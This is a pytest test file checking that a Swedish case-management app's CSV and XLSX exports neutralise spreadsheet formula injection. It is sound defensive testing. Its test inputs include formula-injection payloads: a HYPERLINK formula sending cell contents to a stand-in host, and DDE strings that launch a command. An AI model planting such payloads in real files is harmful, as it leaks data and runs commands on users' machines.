"""No CSV or XLSX file Överblick writes carries a live formula (issue 11): names imported
through the real import path come back as text in the stock export, the reject report and
the team report; numbers stay numbers; the milestone column says each day once."""

from __future__ import annotations

import csv
import re
from dataclasses import replace
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from app.base.clock import FixedClock
from app.chain.rules import chain_rules
from app.exchange.cells import neutral, no_formulas, unquote
from app.exchange.export import _milestone_labels, export_stock, milestone_text
from app.exchange.importer import import_file
from app.priority.profile import resolve_caseworker
from app.stock.overview import stock_rows
from app.team.report import write_team_report
from tests.hostile import PIN

ON = date(2026, 11, 23)
CLOCK = FixedClock(datetime(2026, 11, 23, 9, 0))
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
]
CASEWORKER = '=HYPERLINK("http://example.invalid/","Handläggare")'


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh, delimiter=";").writerows(rows)
    return path


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=";"))


@pytest.fixture
def hostile_stock(conn, tmp_path):
    """A caseworker and four cases whose names are formulas, imported from CSV files."""
    workers = write_csv(
        tmp_path / "handläggare.csv",
        [["Signatur", "Namn", "Roll"], ["hl01", CASEWORKER, "handläggare"]],
    )
    cases = [["Ärende", "Namn", "Personnummer", "Handläggare", "Sjukperiod från"]]
    for n, name in enumerate(HOSTILE, start=1):
        start = (ON - timedelta(days=40 * n)).isoformat()
        cases.append([f"SP-{n}", name, PIN, "hl01", start])
    for path in (workers, write_csv(tmp_path / "ärenden.csv", cases)):
        result = import_file(conn, path, clock=CLOCK, actor=None)
        assert result.rejected == 0, result.rejects
    assert {r[0] for r in conn.execute("SELECT person_name FROM cases")} == set(HOSTILE)
    return resolve_caseworker(conn, "hl01")


def formula_cells(path: Path) -> list[str]:
    """Every cell openpyxl reads as a formula (data_only=False), as 'Sheet!A1'."""
    book = load_workbook(path, data_only=False)
    return [
        f"{ws.title}!{cell.coordinate}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_csv_stock_export_prefixes_formula_text_and_keeps_numbers(conn, hostile_stock, tmp_path):
    path = tmp_path / "stock.csv"
    assert export_stock(conn, hostile_stock, ON, path, "csv", clock=CLOCK) == len(HOSTILE)
    header, *rows = read_csv(path)
    names = {row[header.index("Namn")] for row in rows}
    assert names == {"'" + name for name in HOSTILE}
    for row in rows:
        assert not any(cell[:1] in "=+-@\t\r" for cell in row if cell), row
        for column in ("Dag", "Dagar kvar", "Öppna impulser", "Poäng"):
            value = row[header.index(column)]
            assert value == "" or re.fullmatch(r"-?\d+(,\d)?", value), (column, value)


def test_xlsx_stock_export_writes_formula_text_as_text(conn, hostile_stock, tmp_path):
    path = tmp_path / "stock.xlsx"
    export_stock(conn, hostile_stock, ON, path, "xlsx", clock=CLOCK)
    assert formula_cells(path) == []
    sheet = load_workbook(path, data_only=False).active
    header = [c.value for c in sheet[1]]
    names = [row[header.index("Namn")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(names) == sorted(HOSTILE)  # as written, no quote added
    days = [row[header.index("Dag")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(d, int) for d in days)


def test_reject_report_neutralises_text_but_not_numbers_and_imports_back(conn, tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.title = "Ärenden"
    sheet.append(["Ärende", "Namn", "Personnummer", "Omfattning"])
    sheet.append(["SP-1", HOSTILE[0], PIN, -50])  # a negative extent: rejected
    sheet.append(["SP-2", HOSTILE[1], PIN, -25])
    no_formulas(book)  # the names are text in the source too
    source = tmp_path / "ärenden.xlsx"
    book.save(source)
    result = import_file(conn, source, clock=CLOCK, actor=None)
    assert result.rejected == 2
    header, *rows = read_csv(result.reject_file)
    assert [row[header.index("Namn")] for row in rows] == ["'" + HOSTILE[0], "'" + HOSTILE[1]]
    assert [row[header.index("Omfattning")] for row in rows] == ["-50", "-25"]
    # Corrected in the report and imported again: the names are as they were.
    for row in rows:
        row[header.index("Omfattning")] = "50"
    fixed = write_csv(tmp_path / "rättad.csv", [header, *rows])
    again = import_file(conn, fixed, clock=CLOCK, actor=None)
    assert (again.created, again.rejected) == (2, 0)
    stored = [r[0] for r in conn.execute("SELECT person_name FROM cases ORDER BY case_ref")]
    assert stored == HOSTILE[:2]


def test_reject_report_from_csv_quotes_the_original_cells(conn, tmp_path):
    source = write_csv(
        tmp_path / "a.csv",
        [["Ärende", "Namn", "Personnummer"], ["SP-1", "@SUM(A1)", "1"]],
    )
    result = import_file(conn, source, clock=CLOCK, actor=None)
    header, row = read_csv(result.reject_file)
    assert row[header.index("Namn")] == "'@SUM(A1)"


def test_team_report_xlsx_has_no_formula(conn, hostile_stock, tmp_path):
    path = write_team_report(conn, ON, tmp_path / "team.xlsx", store=False)
    assert formula_cells(path) == []
    names = [c.value for c in load_workbook(path)["Team"]["B"]]
    assert CASEWORKER in names


def test_the_rule_touches_only_text_that_starts_like_a_formula():
    for text in ["=1+1", "+46 70", "-x", "@x", "\tx", "\rx"]:
        assert neutral(text) == "'" + text
        assert unquote(neutral(text)) == text
    for value in [-3, -2.5, 0, None, "", "Anna", "O'Brien", "'x", date(2026, 1, 1)]:
        assert neutral(value) == value
    assert unquote("'Anna") == "'Anna"


def test_milestone_column_names_each_day_once_and_never_a_key(conn, stock, tmp_path):
    for n, days in enumerate((10, 40, 70, 100, 178, 200, 250, 300, 360, 400), start=1):
        stock.case(f"SP-{n}", start=ON - timedelta(days=days))
    caseworker = resolve_caseworker(conn, "hl01")
    path = tmp_path / "stock.csv"
    export_stock(conn, caseworker, ON, path, "csv", clock=CLOCK)
    header, *rows = read_csv(path)
    shown = [row[header.index("Nästa milstolpe")] for row in rows]
    assert len(set(shown)) >= 7
    for text in shown:
        assert re.fullmatch(r"Dag \d+: [^:]+", text), text
        assert text.count("Dag ") == 1 and "_" not in text


def test_every_milestone_rule_gets_its_own_label_for_its_date(conn, stock):
    stock.case("SP-1", start=ON - timedelta(days=20))
    (row,) = stock_rows(conn, resolve_caseworker(conn, "hl01"), ON)
    labels = _milestone_labels()
    for rule in chain_rules().milestones:
        when = rule.valid_from or ON
        text = milestone_text(
            labels, replace(row, next_milestone_key=rule.key, next_milestone_day=rule.day,
                            next_milestone_date=when)
        )  # fmt: skip
        body = re.sub(r"^Dag \d+: ", "", rule.label_sv)
        assert text == f"Dag {rule.day}: {body}"
    unknown = replace(row, next_milestone_key="day_999", next_milestone_day=999)
    assert milestone_text(labels, unknown) == "Dag 999"
